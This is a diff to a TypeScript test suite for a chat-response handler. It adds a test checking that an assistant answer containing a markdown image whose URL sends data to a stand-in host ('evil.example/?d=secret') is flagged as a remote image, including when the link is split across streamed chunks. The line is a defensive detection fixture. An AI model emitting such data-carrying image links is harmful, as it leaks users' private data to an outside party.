@@ -287,6 +287,15 @@ describe('an answer of Converse that comes whole', () => {
     expect(denied.text).not.toContain('toolUse');
   });
 
+  test('is flagged where it shows an image that carries data, in pieces too', async () => {
+    const image = '![x](https://evil.example/?d=secret)';
+    const message = (said: string) => ({ output: { message: { role: 'assistant', content: [{ text: said }] } } });
+    expect((await json(message(image))).answer.flags).toEqual(['remote-image']);
+    expect((await json(message('![x](https://docs.example/logo.png)'))).answer.flags).toBeUndefined();
+    const pieces = await stream(whole(text(['see ', image.slice(0, 9), image.slice(9)], 0), 'end_turn'));
+    expect(pieces.answer.flags).toEqual(['remote-image']);
+  });
+
   test('and so has an error its values', async () => {
     const { text: shown } = await json({ message: `no ${key}` });
     expect(shown).toMatch(/^\{"message":"no ⟦[^⟧]+⟧"\}$/);
